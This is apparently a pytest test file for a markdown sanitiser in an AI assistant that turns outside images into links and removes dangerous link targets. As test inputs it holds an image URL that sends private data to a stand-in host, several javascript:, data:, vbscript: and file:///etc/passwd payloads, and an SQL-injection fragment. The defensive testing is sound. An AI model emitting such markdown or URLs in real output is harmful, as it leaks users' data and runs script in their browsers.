import pytest

from assistant.safe_markdown import is_safe_url, make_safe


def test_outside_images_become_links_so_the_browser_fetches_nothing() -> None:
    text = "Here: ![secret](https://evil.example/log?q=private+data)"
    assert make_safe(text) == "Here: [🖼 secret](https://evil.example/log?q=private+data)"


def test_images_with_titles_and_reference_images_are_links_too() -> None:
    assert make_safe('![a](http://x.example/a.png "t")') == "[🖼 a](http://x.example/a.png)"
    assert make_safe("![a][1]\n\n[1]: http://x.example/a.png") == (
        "[🖼 a][1]\n\n[1]: http://x.example/a.png"
    )


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "<java\tscript:alert(1)>",
        "&#106;avascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox",
        "file:///etc/passwd",
    ],
)
def test_dangerous_link_targets_are_removed_and_the_text_kept(url: str) -> None:
    assert make_safe(f"click [here]({url}) now") == "click here now"
    assert not is_safe_url(url.strip("<>"))


def test_data_url_images_are_not_loaded() -> None:
    assert make_safe("![x](data:image/png;base64,AAAA)") == "🖼 x"


def test_unsafe_reference_definitions_and_autolinks_are_neutralised() -> None:
    assert make_safe("[go][r]\n\n[r]: javascript:alert(1)") == "[go][r]\n\n[r]: #"
    assert "javascript:" not in make_safe("<javascript:alert(1)>")
    assert make_safe("<https://ok.example>") == "<https://ok.example>"


def test_safe_links_and_anchors_are_untouched() -> None:
    text = "[docs](https://docs.example/a_(b)) and [mail](mailto:a@b.c) and [top](#top)"
    assert make_safe(text) == text


def test_code_is_left_exactly_as_written() -> None:
    text = "```md\n![x](https://evil.example/a)\n[y](javascript:z)\n```\nand `![i](http://e/x)`"
    assert make_safe(text) == text


def test_plain_text_round_trips_exactly() -> None:
    text = "emoji 🎉, RTL مرحبا, NUL \x00, <b>html</b>, ' OR 1=1 --"
    assert make_safe(text) == text
